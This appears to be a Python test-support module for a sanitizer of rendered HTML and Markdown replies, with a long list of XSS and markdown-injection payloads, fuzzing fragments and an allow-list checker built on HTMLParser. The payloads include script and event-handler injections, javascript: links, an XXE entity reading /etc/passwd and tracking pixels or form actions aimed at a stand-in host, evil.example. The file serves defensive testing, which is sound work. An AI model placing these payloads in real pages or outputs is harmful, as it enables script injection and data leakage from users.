"""What a hostile reply may hold, and a reader that says what a page made of it could do."""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=q><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=//evil.example/x.mp3 autoplay>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<?php echo 1 ?><?xml-stylesheet href='//evil.example'?>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "</pre></details></div><img src=x onerror=alert(1)>",
    "</code></pre><script>alert(1)</script>",
    "</summary><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\njavascript:alert(1))",
    "[x](&#x01;javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](/logout)",
    "[x](//evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]:\njavascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://onclick=alert(1)/>",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/"onmouseover=alert(1))',
    "![x](https://evil.example/pixel.gif)",
    "\\![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x][y]\n\n[y]: https://evil.example/pixel.gif",
    "[![x](https://evil.example/pixel.gif)](https://a.example)",
    '![" onerror=alert(1) "](https://evil.example/pixel.gif)',
    "```\n<script>alert(1)</script>",
    '```html"><script>alert(1)</script>\nx\n```',
    "- ```\n\n```\n<script>alert(1)</script>\n```",
    "> ```\n```\n<img src=x onerror=alert(1)>\n```",
    "  ```\n<img src=x onerror=alert(1)>\n```\n<img src=x onerror=alert(2)>\n```",
    "~~~\n```\n<img src=x onerror=alert(1)>\n~~~\n<img src=x onerror=alert(2)>",
    "[^1]: ```\n\n```\n<img src=x onerror=alert(1)>\n```",
    "`a ` b\n`<img src=x onerror=alert(1)>`",
    "| `a | <img src=x onerror=alert(1)> |\n| - | - |\n| ` | b |",
    "$$\n\n```\n$$\n\n<script>alert(1)</script>\n```",
    "\\\\[\n\n```\n\\\\]\n\n<script>alert(1)</script>\n```",
    "\\begin{x}\n\n```\n\\end{x}\n\n<script>alert(1)</script>\n```",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\mmlToken{mi}[href=javascript:alert(1)]{x}$$",
    "$<img src=x onerror=alert(1)>$",
    "\x00<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<\x1b[31mscript>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>\n\n* <img src=x onerror=alert(2)>\n\n> <b onclick=alert(3)>",
)

PIECES = (
    *("```", "~~~", "`", "``", "\n", "\n\n", "- ", "> ", "    ", "  ", "\t", "$$", "$", "|", "\\"),
    *("[x]", "]", "(", ")", "](", "]: ", "!", "![", "<", ">", "<!--", "-->", "text", "javascript:"),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "https://a.example", "&lt;"),
    *("1. ", "# ", "---\n", "\\\\[", "\\]", "<pre>", "</pre>", "<a href=javascript:x>", "\ud800"),
)
"""What random texts are put together from, to find the places where parsers disagree."""

_TAGS = frozenset(
    "a b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i li mark ol p pre s "
    "small span strong sub summary sup table tbody td th thead tr ul".split()
)
_ATTRIBUTES = frozenset(
    "align aria-hidden class colspan dir href id rel start style target title".split()
)
_ADDRESS = re.compile(r"(?:https?://|mailto:|#)", re.IGNORECASE)
_COLOUR = r"rgba\([\d., ]+\)"
_STYLE = re.compile(rf"(?:[a-z-]+:\s*(?:[\w#.% -]+|var\(--jp-[a-z-]+,0\)|{_COLOUR});?\s*)*")
_TEX = re.compile(r"\\(?:href|mmlToken)")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.quoted = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.quoted += tag in ("pre", "code")
        if tag not in _TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name not in _ATTRIBUTES:
                self.problems.append(f"{tag} {name}={value}")
            if name == "href" and not _ADDRESS.match(value or ""):
                self.problems.append(f"a link to {value}")
            if name == "style" and not _STYLE.fullmatch(value or ""):
                self.problems.append(f"style {value}")

    def handle_endtag(self, tag: str) -> None:
        self.quoted -= tag in ("pre", "code")

    def handle_data(self, data: str) -> None:
        if not self.quoted and _TEX.search(data):
            self.problems.append(f"TeX {data}")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"instruction {data}")


def problems(html: str) -> list[str]:
    """What ``html`` holds beyond text, plain markup and links to the web, as a browser reads it."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.problems
